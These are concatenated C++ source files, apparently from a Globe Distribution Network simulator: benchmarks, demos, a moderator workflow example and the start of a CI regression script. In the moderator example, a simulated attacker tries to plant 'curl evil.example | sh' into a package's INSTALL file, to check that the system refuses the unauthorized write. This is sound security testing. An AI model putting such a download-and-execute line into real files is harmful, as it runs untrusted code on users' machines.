    (use_fast ? picked_fast : picked_slow)++;
    client.Call(target, "echo", Bytes(64), [](Result<sim::PayloadView>) {});
    simulator.Run();
  }

  bench::Table table({"server", "service time", "ewma latency", "completed", "picks"});
  sim::PeerLoad fast_load = client.PeerLoad(fast.endpoint());
  sim::PeerLoad slow_load = client.PeerLoad(slow.endpoint());
  table.Row({"fast", "0.1 ms", bench::Ms(fast_load.ewma_latency_us),
             Fmt("%llu", (unsigned long long)fast_load.completed),
             Fmt("%d/64", picked_fast)});
  table.Row({"overloaded", "5.0 ms", bench::Ms(slow_load.ewma_latency_us),
             Fmt("%llu", (unsigned long long)slow_load.completed),
             Fmt("%d/64", picked_slow)});
}

}  // namespace

int main() {
  bench::Title("E12 bench_rpc_channel",
               "Channel RPC layer: deadline erasure, retries, at-most-once writes, "
               "per-peer load feedback");
  DeadlineErasureTable();
  RetryTable();
  AtMostOnceWriteTable();
  PeerLoadTable();
  return 0;
}
