// E13 — the socket backend's wire hot path: bytes, frames and allocations per
// typed RPC over loopback TCP, plus wall-clock throughput.
//
// Unlike the simulated-time experiments, this bench exercises the real epoll
// backend: a client and a server SocketTransport in one process, joined only by
// 127.0.0.1 TCP. Three representative Globe workloads ride the unmodified
// Channel / RpcServer stack:
//   - lookup:       small request, small response (the GLS read path shape),
//   - insert_batch: a ~1 KB non-idempotent write (at-most-once dedup engaged),
//   - dso.invoke:   tiny request, 1 MB response (an object-server file block).
//
// Frames/op and wire bytes/op are exact protocol properties (request frame +
// response frame, 4-byte length prefix + 12-byte endpoint header each).
// Allocations/op counts every operator-new across client AND server for one
// settled round trip — zero-copy delivery keeps it small and flat regardless
// of payload size, and stable enough that the CI regression gate guards it
// alongside the frame/byte columns. Wall-clock columns are informational:
// loopback throughput is machine-bound.
//
// A second table runs the same lookup through the secure transport over the
// same loopback TCP, comparing per-frame MAC verification against the default
// batched mode under 16-call pipelined bursts.

#include <atomic>
#include <chrono>
#include <cstdlib>
#include <new>

#include "bench/bench_util.h"
#include "src/net/event_loop.h"
#include "src/net/socket_transport.h"
#include "src/sec/secure_transport.h"
#include "src/sim/rpc.h"

using namespace globe;
using bench::Fmt;

// ---- Process-wide allocation counter. ----
namespace {
std::atomic<uint64_t> g_allocations{0};
}  // namespace

void* operator new(std::size_t size) {
  g_allocations.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(size)) {
    return p;
  }
  throw std::bad_alloc();
}

void* operator new[](std::size_t size) {
  g_allocations.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(size)) {
    return p;
  }
  throw std::bad_alloc();
}

void operator delete(void* p) noexcept { std::free(p); }
void operator delete[](void* p) noexcept { std::free(p); }
void operator delete(void* p, std::size_t) noexcept { std::free(p); }
void operator delete[](void* p, std::size_t) noexcept { std::free(p); }

namespace {

struct OpResult {
  uint64_t frames = 0;      // request + response frames on the wire
  uint64_t wire_bytes = 0;  // both directions, length prefixes included
  uint64_t allocations = 0;
  double wall_us_per_op = 0;
  double mbytes_per_s = 0;
};

// Runs `ops` sequential round trips of `method` and measures the steady state
// (one warmup call first: connection setup, buffer high-water marks).
OpResult MeasureOp(net::EventLoop* loop, net::SocketTransport* client_transport,
                   net::SocketTransport* server_transport, sim::Channel* channel,
                   const sim::Endpoint& server, const char* method,
                   const Bytes& request, int ops) {
  auto round_trip = [&]() {
    bool done = false;
    Status failure = OkStatus();
    channel->Call(server, method, request, [&](Result<sim::PayloadView> r) {
      if (!r.ok()) {
        failure = r.status();
      }
      done = true;
    });
    loop->RunUntil([&]() { return done; }, 30 * sim::kSecond);
    if (!failure.ok()) {
      std::fprintf(stderr, "%s failed: %s\n", method, failure.ToString().c_str());
      std::exit(1);
    }
  };

  round_trip();  // warmup
  client_transport->mutable_stats()->Clear();
  server_transport->mutable_stats()->Clear();
  uint64_t allocs_before = g_allocations.load(std::memory_order_relaxed);
  auto wall_start = std::chrono::steady_clock::now();

  for (int i = 0; i < ops; ++i) {
    round_trip();
  }

  auto wall_end = std::chrono::steady_clock::now();
  uint64_t allocs = g_allocations.load(std::memory_order_relaxed) - allocs_before;
  const net::WireStats& stats = client_transport->stats();

  OpResult result;
  result.frames = (stats.frames_sent + stats.frames_received) / ops;
  result.wire_bytes = (stats.bytes_sent + stats.bytes_received) / ops;
  result.allocations = allocs / static_cast<uint64_t>(ops);
  double total_us = static_cast<double>(
      std::chrono::duration_cast<std::chrono::microseconds>(wall_end - wall_start)
          .count());
  result.wall_us_per_op = total_us / ops;
  result.mbytes_per_s = total_us > 0 ? (static_cast<double>(stats.bytes_sent +
                                                            stats.bytes_received) /
                                        (1024.0 * 1024.0)) /
                                           (total_us / 1'000'000.0)
                                     : 0;
  return result;
}

}  // namespace

int main() {
  bench::Title("E13 bench_wire_hotpath",
               "bytes, frames and allocations per typed RPC over loopback TCP");

  net::EventLoop loop;
  net::SocketTransport client_transport(&loop);
  net::SocketTransport server_transport(&loop);

  constexpr sim::NodeId kServerNode = 1;
  constexpr sim::NodeId kClientNode = 2;
  auto listen = server_transport.Listen(kServerNode);
  if (!listen.ok()) {
    std::fprintf(stderr, "listen failed: %s\n", listen.status().ToString().c_str());
    return 1;
  }
  client_transport.AddRoute(kServerNode, "127.0.0.1", *listen);

  // The three workload shapes. Responses are prebuilt; the per-request copy is
  // part of the measured path (the server really serializes a response).
  const Bytes lookup_response(120, 0x1c);
  const Bytes block_response(1024 * 1024, 0x5e);
  sim::RpcServer server(&server_transport, kServerNode, sim::kPortGls);
  server.RegisterMethod("gls.lookup", [&](const sim::RpcContext&, ByteSpan) {
    return lookup_response;
  });
  server.RegisterMethod(
      "gls.insert_batch",
      [](const sim::RpcContext&, ByteSpan request) -> Result<Bytes> {
        // Touch the batch so the read is not optimized away.
        uint8_t checksum = 0;
        for (uint8_t b : request) {
          checksum ^= b;
        }
        return Bytes{checksum};
      },
      sim::kNonIdempotent);
  server.RegisterMethod("dso.invoke", [&](const sim::RpcContext&, ByteSpan) {
    return block_response;
  });

  sim::Channel channel(&client_transport, kClientNode);
  sim::Endpoint server_endpoint{kServerNode, sim::kPortGls};

  bench::Note("client and server transports joined by real 127.0.0.1 TCP;");
  bench::Note("frames/op, wire bytes/op and allocs/op are deterministic and guarded");
  bench::Note("by CI; wall-clock columns are informational (loopback, machine-bound).");

  bench::Table table({"op", "ops", "frames/op", "wire bytes/op", "allocs/op",
                      "wall us/op", "throughput"});

  struct Workload {
    const char* name;
    const char* method;
    Bytes request;
    int ops;
  };
  const Workload workloads[] = {
      {"lookup", "gls.lookup", Bytes(40, 0x11), 2000},
      {"insert_batch", "gls.insert_batch", Bytes(1024, 0x22), 1000},
      {"dso.invoke 1MB", "dso.invoke", Bytes(24, 0x33), 100},
  };
  for (const Workload& w : workloads) {
    OpResult r = MeasureOp(&loop, &client_transport, &server_transport, &channel,
                           server_endpoint, w.method, w.request, w.ops);
    table.Row({w.name, Fmt("%d", w.ops), Fmt("%llu", (unsigned long long)r.frames),
               Fmt("%llu", (unsigned long long)r.wire_bytes),
               Fmt("%llu", (unsigned long long)r.allocations),
               Fmt("%.1f", r.wall_us_per_op), Fmt("%.1f MB/s", r.mbytes_per_s)});
  }

  bench::Note("");
  bench::Note("every RPC is exactly 2 frames: request out, response back — the");
  bench::Note("codec adds 16 bytes per frame (u32 length + src/dst endpoints) on");
  bench::Note("top of the RPC layer's own header.");

  // ---- Secure transport over the same loopback TCP: per-frame vs batched MAC
  // verification. One SocketTransport hosts both nodes (the secure layer keeps
  // both ends' session state in a single instance; Listen()'s self-routes loop
  // the frames through real TCP), and each op is a 16-call pipelined burst so
  // the batched mode sees real batches per event-loop wake. The crypto cost
  // profile is zeroed: wall-clock measures the actual HMAC work, not simulated
  // delay holds.
  bench::Note("");
  bench::Note("secure lookup: the same 120 B echo through the secure transport in");
  bench::Note("16-call pipelined bursts. per-frame verification rebuilds the HMAC");
  bench::Note("key schedule and concatenates the MAC input for every frame;");
  bench::Note("batched verification shares the session's precomputed midstates and");
  bench::Note("one scratch header across each wake's batch.");

  net::EventLoop secure_loop;
  net::SocketTransport secure_inner(&secure_loop);
  constexpr sim::NodeId kSecureServerNode = 11;
  constexpr sim::NodeId kSecureClientNode = 12;
  for (sim::NodeId node : {kSecureServerNode, kSecureClientNode}) {
    auto port = secure_inner.Listen(node);
    if (!port.ok()) {
      std::fprintf(stderr, "listen failed: %s\n", port.status().ToString().c_str());
      return 1;
    }
  }
  sec::KeyRegistry registry;
  sec::CryptoProfile profile;
  profile.mac_us_per_byte = 0;
  profile.cipher_us_per_byte = 0;
  profile.handshake_cpu_us = 0;
  profile.handshake_bytes = 64;
  profile.handshake_rtts = 0;
  sec::SecureTransport secure(&secure_inner, &registry, profile);
  secure.SetNodeCredential(kSecureServerNode,
                           registry.Register("bench-server", sec::Role::kGdnHost));
  secure.SetNodeCredential(kSecureClientNode,
                           registry.Register("bench-client", sec::Role::kGdnHost));
  secure.SetChannelPolicy([](sim::NodeId, sim::NodeId) {
    sec::ChannelConfig config;
    config.auth = sec::AuthMode::kMutualAuth;
    return config;
  });

  sim::RpcServer secure_server(&secure, kSecureServerNode, sim::kPortGls);
  secure_server.RegisterMethod("gls.lookup", [&](const sim::RpcContext&, ByteSpan) {
    return lookup_response;
  });
  sim::Channel secure_channel(&secure, kSecureClientNode);
  const sim::Endpoint secure_endpoint{kSecureServerNode, sim::kPortGls};
  const Bytes secure_request(40, 0x11);

  constexpr int kBurst = 16;
  auto run_burst = [&]() {
    int burst_done = 0;
    bool burst_failed = false;
    for (int i = 0; i < kBurst; ++i) {
      secure_channel.Call(secure_endpoint, "gls.lookup", secure_request,
                          [&](Result<sim::PayloadView> r) {
                            if (!r.ok()) {
                              burst_failed = true;
                            }
                            ++burst_done;
                          });
    }
    secure_loop.RunUntil([&]() { return burst_done == kBurst; }, 30 * sim::kSecond);
    if (burst_failed || burst_done != kBurst) {
      std::fprintf(stderr, "secure burst failed (%d/%d)\n", burst_done, kBurst);
      std::exit(1);
    }
  };

  bench::Table secure_table({"op", "calls", "frames/op", "wire bytes/op", "allocs/op",
                             "wall us/op", "max batch"});
  struct SecureMode {
    const char* name;
    sec::VerifyMode mode;
  };
  const SecureMode modes[] = {
      {"secure lookup per-frame", sec::VerifyMode::kPerFrame},
      {"secure lookup batched", sec::VerifyMode::kBatched},
  };
  constexpr int kBursts = 200;
  for (const SecureMode& m : modes) {
    secure.set_verify_mode(m.mode);
    run_burst();  // warmup: handshake, connections, buffer high-water marks
    secure.mutable_stats()->Clear();
    secure_inner.mutable_stats()->Clear();
    uint64_t allocs_before = g_allocations.load(std::memory_order_relaxed);
    auto wall_start = std::chrono::steady_clock::now();
    for (int i = 0; i < kBursts; ++i) {
      run_burst();
    }
    auto wall_end = std::chrono::steady_clock::now();
    uint64_t calls = static_cast<uint64_t>(kBursts) * kBurst;
    uint64_t allocs =
        g_allocations.load(std::memory_order_relaxed) - allocs_before;
    // One transport carries both directions: frames_sent alone counts each wire
    // frame exactly once (request + response = 2 per call), comparable to the
    // client-side accounting of the plain table above.
    const net::WireStats& wire = secure_inner.stats();
    double total_us = static_cast<double>(
        std::chrono::duration_cast<std::chrono::microseconds>(wall_end - wall_start)
            .count());
    secure_table.Row(
        {m.name, Fmt("%llu", (unsigned long long)calls),
         Fmt("%llu", (unsigned long long)(wire.frames_sent / calls)),
         Fmt("%llu", (unsigned long long)(wire.bytes_sent / calls)),
         Fmt("%llu", (unsigned long long)(allocs / calls)),
         Fmt("%.1f", total_us / static_cast<double>(calls)),
         m.mode == sec::VerifyMode::kBatched
             ? Fmt("%llu", (unsigned long long)secure.stats().max_batch_frames)
             : std::string("-")});
  }

  bench::Note("");
  bench::Note("secure frames carry the session header + 32 B HMAC trailer; the");
  bench::Note("batched row's win over per-frame is the amortized verification");
  bench::Note("setup (key schedule + MAC-input concatenation) it no longer pays.");
  return 0;
}
