// globe_node: a real GDN node on localhost TCP.
//
// Boots a StandaloneGdnNode (GLS subnode, GNS naming authority + DNS, caching
// resolver, Globe Object Server, GDN-enabled HTTPD, moderator tool) over a
// net::SocketTransport, publishes a demo package, and serves genuine HTTP on a
// listening socket — a plain browser or curl downloads package files with no
// simulator anywhere in the process:
//
//   GLOBE_HTTP_PORT=8080 ./globe_node &
//   curl http://127.0.0.1:8080/packages/apps/demo/HelloGlobe/files/README
//
// Flags / environment:
//   GLOBE_HTTP_PORT      TCP port for the HTTP listener (default 8080).
//   --serve-seconds=N    Exit after N seconds (default: run until SIGINT).

#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "src/gdn/standalone.h"
#include "src/net/event_loop.h"
#include "src/net/socket_transport.h"
#include "src/util/strings.h"

using namespace globe;

namespace {

volatile std::sig_atomic_t g_stop = 0;
void OnSignal(int) { g_stop = 1; }

}  // namespace

int main(int argc, char** argv) {
  long serve_seconds = 0;  // 0 = until SIGINT
  for (int i = 1; i < argc; ++i) {
    if (std::strncmp(argv[i], "--serve-seconds=", 16) == 0) {
      serve_seconds = std::atol(argv[i] + 16);
    }
  }
  uint16_t http_port = 8080;
  if (const char* env = std::getenv("GLOBE_HTTP_PORT")) {
    http_port = static_cast<uint16_t>(std::atoi(env));
  }

  net::EventLoop loop;
  net::SocketTransport transport(&loop);

  // Every logical node the stack occupies gets its own loopback TCP listener
  // (kernel-assigned port) and a route, so the services reach each other over
  // real sockets.
  bool listen_failed = false;
  gdn::StandaloneGdnNode node(&transport, {}, [&](sim::NodeId n) {
    auto port = transport.Listen(n);
    if (!port.ok()) {
      std::fprintf(stderr, "listen for node %u failed: %s\n", n,
                   port.status().ToString().c_str());
      listen_failed = true;
    }
  });
  if (listen_failed) {
    return 1;
  }

  auto bound = transport.ListenHttp(node.httpd_node(), http_port);
  if (!bound.ok()) {
    std::fprintf(stderr, "HTTP listen on port %u failed: %s\n", http_port,
                 bound.status().ToString().c_str());
    return 1;
  }

  // Pump: drive the epoll loop until the step completes (or settles).
  gdn::StandaloneGdnNode::Pump pump = [&](const std::function<bool()>& done) {
    if (!done) {
      loop.RunFor(200 * sim::kMillisecond);
      return true;
    }
    return loop.RunUntil(done, 10 * sim::kSecond);
  };

  auto oid = node.PublishPackage(
      "/apps/demo/HelloGlobe",
      {{"README", ToBytes("Hello from a Globe Distribution Network node!\n")},
       {"bin/hello", Bytes(4096, 0x42)}},
      pump);
  if (!oid.ok()) {
    std::fprintf(stderr, "publish failed: %s\n", oid.status().ToString().c_str());
    return 1;
  }

  std::printf("globe_node serving on http://127.0.0.1:%u\n", *bound);
  std::printf("try:  curl http://127.0.0.1:%u/packages/apps/demo/HelloGlobe\n",
              *bound);
  std::printf("      curl http://127.0.0.1:%u"
              "/packages/apps/demo/HelloGlobe/files/README\n",
              *bound);
  std::fflush(stdout);

  std::signal(SIGINT, OnSignal);
  std::signal(SIGTERM, OnSignal);
  sim::SimTime deadline =
      serve_seconds > 0
          ? loop.Now() + static_cast<sim::SimTime>(serve_seconds) * sim::kSecond
          : 0;
  while (g_stop == 0 && (deadline == 0 || loop.Now() < deadline)) {
    loop.PollOnce(100 * sim::kMillisecond);
  }
  std::printf("globe_node: shutting down\n");
  return 0;
}
