// GDN-HTTPD demo: watch the actual HTTP text on the wire (paper §4).
//
// A browser talks to its nearest GDN-enabled HTTPD: front page, package listing as an
// HTML table with SHA-256 digests, a file download, and the 404 path. Also shows the
// HTTPD acting as a cache replica after the first bind — the second download is
// served without touching the faraway master.

#include <cstdio>

#include "src/gdn/world.h"
#include "src/util/strings.h"

using namespace globe;

namespace {
void ShowExchange(gdn::GdnWorld& world, gdn::Browser* browser, sim::NodeId httpd,
                  const std::string& target) {
  std::printf("--- GET %s\n", target.c_str());
  Result<http::HttpResponse> out = Unavailable("pending");
  browser->Fetch(httpd, target, [&](Result<http::HttpResponse> r) { out = std::move(r); });
  world.Run();
  if (!out.ok()) {
    std::printf("    transport error: %s\n\n", out.status().ToString().c_str());
    return;
  }
  std::printf("    %s %d %s\n", out->version.c_str(), out->status_code, out->reason.c_str());
  for (const auto& [name, value] : out->headers) {
    std::printf("    %s: %s\n", name.c_str(), value.c_str());
  }
  std::string body = ToString(out->body);
  if (body.size() > 600) {
    body = body.substr(0, 600) + "...[truncated]";
  }
  std::printf("\n%s\n\n", body.c_str());
}
}  // namespace

int main() {
  std::printf("== GDN-HTTPD on the wire ==\n\n");

  gdn::GdnWorld world;
  auto oid = world.PublishPackage(
      "/apps/graphics/Gimp",
      {{"bin/gimp", Bytes(30000, 0x7f)},
       {"share/brushes.tar", Bytes(9000, 0x22)},
       {"README", ToBytes("The GNU Image Manipulation Program.\n")}},
      dso::kProtoCacheInval, /*master_country=*/0);
  if (!oid.ok()) {
    std::printf("publish failed: %s\n", oid.status().ToString().c_str());
    return 1;
  }

  // A user on the far continent: their access point is the local HTTPD.
  sim::NodeId user = world.user_hosts().back();
  sim::NodeId access_point = world.NearestHttpd(user)->node();
  auto browser = world.MakeBrowser(user);
  std::printf("user node %u, access point node %u\n\n", user, access_point);

  ShowExchange(world, browser.get(), access_point, "/");
  ShowExchange(world, browser.get(), access_point, "/packages/apps/graphics/Gimp");
  ShowExchange(world, browser.get(), access_point,
               "/packages/apps/graphics/Gimp/files/README");
  ShowExchange(world, browser.get(), access_point, "/packages/apps/no/such/package");

  // Cache effect: the HTTPD bound as a cache replica on the first request; repeat
  // downloads stay inside the country.
  world.network().mutable_stats()->Clear();
  auto again = world.DownloadFile(user, "/apps/graphics/Gimp", "bin/gimp");
  std::printf("--- repeat download of bin/gimp (30000 bytes)\n");
  if (again.ok()) {
    std::printf("    served in %.1f ms; wide-area bytes moved: %s (cache replica hit)\n",
                sim::ToMillis(world.last_op_duration()),
                FormatBytes(world.network().stats().BytesAtOrAbove(2)).c_str());
  }
  std::printf("\n== done ==\n");
  return 0;
}
