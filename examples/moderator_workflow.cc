// Moderator workflow: the full lifecycle of a package in a *secured* GDN (paper §6),
// including an unauthorized attempt that the system must refuse.
//
// Walks through: create (scenario -> first replica -> secondaries -> GNS name),
// update, attempted tampering by a plain user, and removal.

#include <cstdio>

#include "src/gdn/world.h"

using namespace globe;

namespace {
void Report(const char* step, const Status& status) {
  std::printf("  [%s] %s\n", status.ok() ? "ok" : "REFUSED", step);
  if (!status.ok()) {
    std::printf("          %s\n", status.ToString().c_str());
  }
}
}  // namespace

int main() {
  std::printf("== GDN moderator workflow (secured deployment) ==\n\n");

  gdn::GdnWorldConfig config;
  config.secure = true;  // Figure-4 TLS channels + role-based authorization
  gdn::GdnWorld world(config);

  // --- Create ------------------------------------------------------------
  std::printf("moderator creates /apps/text/teTeX (master country 0, slave country 1):\n");
  auto oid = world.PublishPackage(
      "/apps/text/teTeX",
      {{"tetex-1.0.tar", Bytes(120000, 0x54)}, {"INSTALL", ToBytes("untar and pray\n")}},
      dso::kProtoMasterSlave, 0, {1});
  Report("create package + replicate + register name", oid.ok() ? OkStatus() : oid.status());
  if (!oid.ok()) {
    return 1;
  }
  std::printf("          oid = %s\n", oid->ToHex().c_str());

  // --- A user can download -----------------------------------------------
  auto content = world.DownloadFile(world.user_hosts()[3], "/apps/text/teTeX", "INSTALL");
  Report("user downloads INSTALL over HTTP", content.ok() ? OkStatus() : content.status());

  // --- Unauthorized modification attempt ---------------------------------
  std::printf("\nan ordinary user tries to trojan the package:\n");
  sim::NodeId attacker = world.user_hosts()[5];
  dso::RuntimeSystem attacker_runtime(world.transport(), attacker,
                                      world.gls().LeafDirectoryFor(attacker),
                                      &world.repository());
  std::unique_ptr<dso::BoundObject> bound;
  attacker_runtime.Bind(*oid, {}, [&](Result<std::unique_ptr<dso::BoundObject>> r) {
    if (r.ok()) {
      bound = std::move(*r);
    }
  });
  world.Run();
  Status attack = Unavailable("bind failed");
  if (bound != nullptr) {
    auto invocation = gdn::pkg::AddFile("INSTALL", ToBytes("curl evil.example | sh\n"));
    bound->Invoke(invocation.method, invocation.args, false,
                  [&](Result<Bytes> r) { attack = r.ok() ? OkStatus() : r.status(); });
    world.Run();
  }
  Report("attacker write invocation on the replica", attack);
  if (attack.ok()) {
    std::printf("SECURITY FAILURE: unauthorized write was accepted!\n");
    return 1;
  }

  // --- Legitimate update --------------------------------------------------
  std::printf("\nmoderator ships an update:\n");
  Status update = Unavailable("pending");
  world.moderator()->AddFile("/apps/text/teTeX", "INSTALL",
                             ToBytes("see the teTeX manual, chapter 1\n"),
                             [&](Status s) { update = s; });
  world.Run();
  Report("moderator updates INSTALL", update);

  content = world.DownloadFile(world.user_hosts()[3], "/apps/text/teTeX", "INSTALL");
  if (content.ok()) {
    std::printf("          user now sees: %s", ToString(*content).c_str());
  }

  // --- Remove --------------------------------------------------------------
  std::printf("\nmoderator removes the package:\n");
  Status removal = Unavailable("pending");
  world.moderator()->RemovePackage("/apps/text/teTeX", [&](Status s) { removal = s; });
  world.Run();
  world.naming_authority()->Flush();
  world.Run();
  Report("remove replicas + GNS name", removal);

  auto gone = world.DownloadFile(world.user_hosts()[9], "/apps/text/teTeX", "INSTALL");
  Report("download after removal (must fail)",
         gone.ok() ? Internal("still reachable!") : OkStatus());

  std::printf("\nsecurity counters: %llu handshakes, %llu denied GOS commands, "
              "%llu denied GNS requests\n",
              static_cast<unsigned long long>(world.secure_transport()->stats().handshakes),
              static_cast<unsigned long long>(world.GosOf(0)->stats().commands_denied),
              static_cast<unsigned long long>(
                  world.naming_authority()->stats().requests_denied));
  std::printf("== done ==\n");
  return 0;
}
