// Quickstart: publish a package to the Globe Distribution Network and download it
// through a standard (simulated) web browser.
//
// Build and run:
//   cmake -B build -G Ninja && cmake --build build && ./build/examples/quickstart

#include <cstdio>

#include "src/gdn/world.h"
#include "src/util/strings.h"
#include "src/util/sha256.h"

using namespace globe;

int main() {
  std::printf("== Globe Distribution Network: quickstart ==\n\n");

  // A small world: 2 continents x 2 countries x 2 sites, 2 user machines per site.
  // GdnWorld deploys the whole Figure-3 architecture: GLS directory tree, DNS-based
  // GNS, one Globe Object Server + GDN-HTTPD per country, moderator tool.
  gdn::GdnWorld world;
  std::printf("world: %zu countries, %zu user machines, %zu GLS directory nodes\n",
              world.num_countries(), world.user_hosts().size(),
              world.gls().subnodes().size());

  // The moderator publishes the Gimp package: master replica in country 0, a slave
  // in country 2, name registered as /apps/graphics/Gimp.
  std::map<std::string, Bytes> files = {
      {"bin/gimp", ToBytes("#!/bin/sh\necho 'GNU Image Manipulation Program 1.1.29'\n")},
      {"README", ToBytes("The GIMP: free software image editing for X11.\n")},
  };
  auto oid = world.PublishPackage("/apps/graphics/Gimp", files, dso::kProtoMasterSlave,
                                  /*master_country=*/0, /*replica_countries=*/{2});
  if (!oid.ok()) {
    std::printf("publish failed: %s\n", oid.status().ToString().c_str());
    return 1;
  }
  std::printf("\npublished /apps/graphics/Gimp\n  object id: %s\n  replicas : country 0 "
              "(master), country 2 (slave)\n",
              oid->ToHex().c_str());

  // A user on the other side of the world fetches the package listing HTML...
  sim::NodeId user = world.user_hosts().back();
  auto listing = world.FetchListing(user, "/apps/graphics/Gimp");
  if (!listing.ok()) {
    std::printf("listing failed: %s\n", listing.status().ToString().c_str());
    return 1;
  }
  std::printf("\nHTML listing served to user node %u (%.1f ms):\n%s\n", user,
              sim::ToMillis(world.last_op_duration()), listing->c_str());

  // ...and downloads a file through their nearest GDN-HTTPD.
  auto content = world.DownloadFile(user, "/apps/graphics/Gimp", "README");
  if (!content.ok()) {
    std::printf("download failed: %s\n", content.status().ToString().c_str());
    return 1;
  }
  std::printf("downloaded README (%zu bytes, %.1f ms): %s", content->size(),
              sim::ToMillis(world.last_op_duration()), ToString(*content).c_str());
  std::printf("sha256: %s\n", Sha256::HexDigest(*content).c_str());

  std::printf("\nnetwork totals: %llu messages, %s across all links\n",
              static_cast<unsigned long long>(world.network().stats().TotalMessages()),
              FormatBytes(world.network().stats().TotalBytes()).c_str());
  std::printf("== done ==\n");
  return 0;
}
