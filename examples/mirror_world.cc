// Mirror world: a three-continent GDN deployment facing a flash crowd.
//
// Shows the paper's core argument (§3.1) in action: the same package served (a) from
// a single central master and (b) with replicas near the users, comparing response
// times and wide-area traffic when one country's users all download at once.

#include <cstdio>

#include "src/gdn/world.h"
#include "src/util/strings.h"

using namespace globe;

namespace {

struct CrowdResult {
  double mean_latency_ms = 0;
  uint64_t wan_bytes = 0;
};

// Every user in the last country downloads the file once.
CrowdResult RunFlashCrowd(gdn::GdnWorld& world, const std::string& package) {
  int last_country = static_cast<int>(world.num_countries()) - 1;
  world.network().mutable_stats()->Clear();

  double total_ms = 0;
  int downloads = 0;
  for (sim::NodeId user : world.user_hosts()) {
    if (world.CountryOf(user) != last_country) {
      continue;
    }
    auto content = world.DownloadFile(user, package, "distribution.tar.gz");
    if (!content.ok()) {
      std::printf("  download failed: %s\n", content.status().ToString().c_str());
      continue;
    }
    total_ms += sim::ToMillis(world.last_op_duration());
    ++downloads;
  }
  return CrowdResult{downloads > 0 ? total_ms / downloads : 0,
                     world.network().stats().BytesAtOrAbove(2)};
}

}  // namespace

int main() {
  std::printf("== GDN mirror world: flash crowd in one country ==\n\n");

  gdn::GdnWorldConfig config;
  config.fanouts = {3, 2, 2};       // 3 continents x 2 countries x 2 sites
  config.user_hosts_per_site = 4;   // 48 user machines
  Bytes distribution(400000, 0x42);  // a 400 KB "Linux distribution"

  // Scenario A: central only — one master replica on continent 0.
  {
    gdn::GdnWorld world(config);
    auto oid = world.PublishPackage("/os/linux/slackware",
                                    {{"distribution.tar.gz", distribution}},
                                    dso::kProtoMasterSlave, /*master_country=*/0);
    if (!oid.ok()) {
      std::printf("publish failed: %s\n", oid.status().ToString().c_str());
      return 1;
    }
    CrowdResult central = RunFlashCrowd(world, "/os/linux/slackware");
    std::printf("central master only:\n  mean download latency: %.1f ms\n"
                "  wide-area bytes     : %s\n\n",
                central.mean_latency_ms, FormatBytes(central.wan_bytes).c_str());
  }

  // Scenario B: replicas on every continent (one per first country of each).
  {
    gdn::GdnWorld world(config);
    std::vector<size_t> replicas;
    for (size_t c = 1; c < world.num_countries(); ++c) {
      replicas.push_back(c);
    }
    auto oid = world.PublishPackage("/os/linux/slackware",
                                    {{"distribution.tar.gz", distribution}},
                                    dso::kProtoMasterSlave, 0, replicas);
    if (!oid.ok()) {
      std::printf("publish failed: %s\n", oid.status().ToString().c_str());
      return 1;
    }
    CrowdResult mirrored = RunFlashCrowd(world, "/os/linux/slackware");
    std::printf("replica in every country:\n  mean download latency: %.1f ms\n"
                "  wide-area bytes     : %s\n\n",
                mirrored.mean_latency_ms, FormatBytes(mirrored.wan_bytes).c_str());
  }

  std::printf("The replicated deployment serves the crowd from within the country:\n"
              "latency drops to LAN scale and the flash crowd stops consuming\n"
              "intercontinental bandwidth — the paper's selective-replication case.\n");
  return 0;
}
