#!/usr/bin/env python3
"""Fail CI when a benchmark regresses against its committed baseline.

Compares the BENCH_<name>.json files a bench run just produced against the
baselines committed under ci/baselines/. The bench worlds are deterministic
simulations, so hops / simulated latencies / per-subnode loads reproduce exactly;
the threshold only absorbs intentional-but-small drift. Lower is better for every
guarded column except those listed in HIGHER_IS_BETTER (throughput figures),
where the same threshold bounds how far the value may *fall*.

Usage:
  python3 ci/check_bench_regression.py \
      --baseline-dir ci/baselines --current-dir . [--threshold 0.25] \
      BENCH_gls_locality.json BENCH_gls_partitioning.json

Exit status: 0 = no regression, 1 = regression or malformed input.
"""

import argparse
import json
import re
import sys

# Guarded columns per bench file: (file name -> column substrings, lower-is-better).
# A column is guarded when any of these substrings appears in its header — except
# the higher-is-better "... saved" columns, where growth is an improvement.
GUARDED_COLUMNS = {
    "BENCH_gls_locality.json": ["hops", "latency"],
    "BENCH_gls_partitioning.json": [
        "max lookups",
        "max entries",
        "p99 latency",
        "hottest root",
    ],
    "BENCH_gls_cache.json": ["avg hops", "avg latency", "round trips", "network msgs"],
    "BENCH_rpc_channel.json": ["per call", "pending events"],
    # Fail-over: slower elections are a regression, and the acked-write floor
    # means "writes lost" has a zero baseline that must stay zero (the viral
    # table's "writes lost" column rides the same guard). The viral table also
    # pins the online controller against the static oracle: "mean read" /
    # "read WAN" / "total WAN" guard read latency and WAN bytes in both the
    # policy and viral tables, and "migrations" keeps the adaptive row at one
    # migration — a flapping controller shows up as thrash here.
    "BENCH_replication_scenarios.json": [
        "time to new master",
        "mean write",
        "writes lost",
        "mean read",
        "read wan",
        "total wan",
        "migrations",
    ],
    # Socket backend wire protocol: frames and bytes per RPC are exact protocol
    # properties. Allocations per op are guarded too — the zero-copy delivery
    # path keeps them small, flat across payload sizes, and (measured) stable
    # run to run; the 25% threshold absorbs toolchain drift. Wall-clock columns
    # stay machine-bound and unguarded.
    "BENCH_wire_hotpath.json": ["frames/op", "wire bytes/op", "allocs/op"],
    # Planet scale: events/sec guards engine throughput (higher is better) and
    # peak RSS guards the memory-bounded directory (the whole point of the
    # bounded subnode store). Both are machine-sensitive — wall-clock columns
    # stay unguarded and the shared 25% threshold absorbs runner variance,
    # while an unbounded store blowing past capacity moves RSS far more than
    # that. "lost" must stay at its zero baseline (any growth from zero fails
    # regardless of threshold).
    "BENCH_planet_scale.json": ["events/sec", "peak rss", "lost"],
}
EXCLUDED_COLUMN_MARKERS = ["saved"]
# Columns where larger values are improvements: the threshold bounds shrinkage
# instead of growth. Matched by substring against the lowercased header, same
# as GUARDED_COLUMNS.
HIGHER_IS_BETTER = ["events/sec"]
# Leading label cells identifying a row. Default: everything before the first
# guarded column (right when labels precede all data columns). Benches whose
# guarded columns sit to the right of unguarded machine-bound data — the planet
# table's wall-clock seconds vary run to run — pin an explicit width instead.
LABEL_COLUMNS = {"BENCH_planet_scale.json": 1}

_NUMBER = re.compile(r"^\s*(-?\d+(?:\.\d+)?)")


def leading_number(cell):
